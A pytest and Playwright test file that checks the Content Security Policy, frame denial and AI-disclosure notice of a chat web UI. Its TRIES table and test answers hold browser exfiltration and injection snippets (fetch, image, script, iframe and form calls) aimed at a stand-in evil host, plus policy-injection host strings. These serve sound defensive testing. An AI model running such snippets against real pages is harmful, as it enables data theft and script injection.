"""What a browser may do in the pages: a real Chromium meets answers that attack it."""

import json
import re
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

import ui
from tests.ui.rules.test_marks import TOLD
from tests.ui.support import guarding
from tests.ui.support.answering import EVIL
from tests.ui.support.stub import Stub
from tests.ui.test_browser import address, ask, page, slow_stub, wait_for  # noqa: F401  (fixtures)
from ui.pages import inline_scripts, page_scripts, policy
from ui.scripts import SCRIPTS

if TYPE_CHECKING:
    from playwright.sync_api import Page

PAGES = Path(ui.__file__).parent
SIZES = [(1280, 900), (1280, 600), (390, 844), (360, 640), (844, 390)]


def test_the_policy_allows_the_scripts_of_the_page_and_no_other():
    (ours,) = inline_scripts("<script src='a.js'></script><script>run()</script>")
    assert ours == "run()"
    said = dict(part.split(" ", 1) for part in policy([ours]).split("; "))
    assert said["script-src"].startswith("'self' 'sha256-")
    assert "unsafe" not in said["script-src"]
    assert said["default-src"] == said["frame-ancestors"] == "'none'"
    assert not [value for value in said.values() if "*" in value or "http" in value]
    assert len(page_scripts()) == 1 + len(SCRIPTS)


def test_no_page_runs_a_script_that_is_not_known():
    running = [
        str(path.relative_to(PAGES))
        for path in PAGES.rglob("*.py")
        if re.search(r"javascript\s*=|components\.|st\.iframe", path.read_text("utf-8"))
    ]
    assert running == ["scripts.py"]


@pytest.mark.parametrize("host", ["chat.example", "127.0.0.1:8501", "[::1]:8501"])
def test_the_policy_lets_the_page_talk_to_its_own_server(host: str):
    said = dict(part.split(" ", 1) for part in policy([], host).split("; "))
    assert said["connect-src"] == f"'self' ws://{host} wss://{host}"


@pytest.mark.parametrize("host", ["", "*", "a b", "a;script-src *", "a,b", "*.evil.example", "a/b"])
def test_no_name_of_a_host_writes_the_policy(host: str):
    assert policy([], host) == policy([])


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.timeout(300)
def test_an_answer_that_attacks_reaches_no_other_host(
    page: "Page",  # noqa: F811
    address: str,  # noqa: F811
    slow_stub: Stub,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
):
    from playwright.sync_api import expect

    monkeypatch.setattr(slow_stub, "pause_s", 0.0)
    asked_for: list[str] = []
    refused: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    page.on("console", lambda message: refused.append(message.text))
    page.goto(address)
    ask(page, "an attack")
    expect(page.locator(".st-key-details-1")).to_be_visible()
    for summary in page.locator(".st-key-answer-1 summary").all():
        summary.click()
    answer = page.locator(".st-key-answer-1")
    expect(answer).to_contain_text(f"a chart ({EVIL}/image.png)")
    expect(answer).to_contain_text(f'<img src="{EVIL}/html.png">')
    expect(answer).to_contain_text(f"Sign in ({EVIL}/login)")
    led = answer.locator("a").evaluate_all("all => all.map(it => it.getAttribute('href'))")
    outward = {link for link in led if not link.startswith("#source-")}
    assert outward == {"https://help.example.com/here"}
    assert answer.locator("img, iframe, object, embed, script, form").count() == 0
    assert [url for url in asked_for if url.startswith(("http", "ws")) and address not in url] == []
    assert [text for text in refused if "Content Security Policy" in text] == [], "nothing tried"


TRIES = {
    "img-src": "new Image().src = URL",
    "connect-src": "fetch(URL).catch(() => 0)",
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), "
    "{src: URL}))",
    "style-src-elem": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: URL}))",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: URL}))",
    "form-action": "(() => { const it = Object.assign(document.createElement('form'), "
    "{action: URL, method: 'post'}); document.body.append(it); it.submit() })()",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', "
    "'<img src=data:, onerror=fetch(1)>')",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), {href: URL}))",
    "font-src": "new FontFace('x', `url(${URL})`).load().catch(() => 0)",
    "media-src": "new Audio(URL).play().catch(() => 0)",
}


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.timeout(300)
def test_what_gets_into_the_page_all_the_same_is_stopped_by_the_browser(
    page: "Page",  # noqa: F811
    address: str,  # noqa: F811
):
    from playwright.sync_api import expect

    page.goto(address)
    expect(page.locator(".rb-notice")).to_be_visible()
    for rule, script in TRIES.items():
        stopped = page.evaluate(
            f"""() => new Promise(done => {{
                document.addEventListener("securitypolicyviolation",
                    event => done([event.effectiveDirective, event.disposition]), {{once: true}});
                const URL = {json.dumps(EVIL)};
                {script};
                setTimeout(() => done(["nothing", ""]), 10000);
            }})"""
        )
        assert stopped == [rule, "enforce"]


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.timeout(300)
def test_the_pages_themselves_keep_the_rules_and_their_scripts_run(
    page: "Page",  # noqa: F811
    address: str,  # noqa: F811
    slow_stub: Stub,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
):
    from playwright.sync_api import expect

    monkeypatch.setattr(slow_stub, "pause_s", 0.0)
    monkeypatch.setattr(slow_stub, "guard", guarding.one_candidate())
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.add_init_script(
        "Element.prototype.scrollIntoView = function () { "
        "(window.seen ??= []).push(this.className.match(/st-key-[a-z]+/)?.[0]) }"
    )
    page.goto(address)
    ask(page, "How do I get a new password?")
    expect(page.locator(".st-key-details-1")).to_be_visible()
    wait_for(lambda: "st-key-exchange" in page.evaluate("window.seen ?? []"))
    with page.expect_download() as saved:
        page.locator(".st-key-save-json button").click()
    answer = json.loads(Path(saved.value.path()).read_text("utf-8"))["messages"][1]
    assert answer["author"]["kind"] == "document"
    page.get_by_role("link", name="Quality").click()
    page.get_by_role("button", name="support-tone, support.account, English:").click()
    expect(page.locator(".st-key-dossier h3")).to_contain_text("support.account, English")
    wait_for(lambda: "st-key-dossier" in page.evaluate("window.seen ?? []"))
    assert [text for text in refused if "Content Security Policy" in text] == []


@pytest.mark.browser
@pytest.mark.timeout(300)
def test_nobody_may_frame_the_pages(page: "Page", address: str):  # noqa: F811
    reply = page.goto(address)
    assert reply
    assert reply.headers["x-frame-options"] == "DENY"
    assert "frame-ancestors 'none'" in reply.headers["content-security-policy"]
    assert reply.headers["x-content-type-options"] == "nosniff"


@pytest.mark.browser
@pytest.mark.timeout(300)
@pytest.mark.parametrize("size", SIZES)
def test_the_notice_is_seen_and_read_before_any_input(
    page: "Page",  # noqa: F811
    address: str,  # noqa: F811
    size: tuple[int, int],
):
    from playwright.sync_api import expect

    page.set_viewport_size({"width": size[0], "height": size[1]})
    page.goto(address)
    notice = page.get_by_role("note", name="You are talking to an AI system.")
    for words in (*TOLD["en"], *TOLD["de"]):
        expect(notice).to_contain_text(words)
    expect(page.locator(".st-key-example-2 button")).to_be_attached()
    expect(page.locator(".st-key-question textarea")).to_be_visible()
    box = notice.bounding_box()
    below = page.get_by_test_id("stBottomBlockContainer").bounding_box()
    assert box
    assert below
    assert box["y"] >= 0
    assert box["y"] + box["height"] <= below["y"]
    first = page.evaluate(
        """() => {
            const notice = document.querySelector(".rb-notice");
            const inputs = document.querySelectorAll(
                ".st-key-example-1 button, .st-key-question textarea");
            return [...inputs].map(it => Boolean(
                notice.compareDocumentPosition(it) & Node.DOCUMENT_POSITION_FOLLOWING));
        }"""
    )
    assert first == [True, True]
    page.locator(".st-key-question textarea").fill("It blocks nothing")
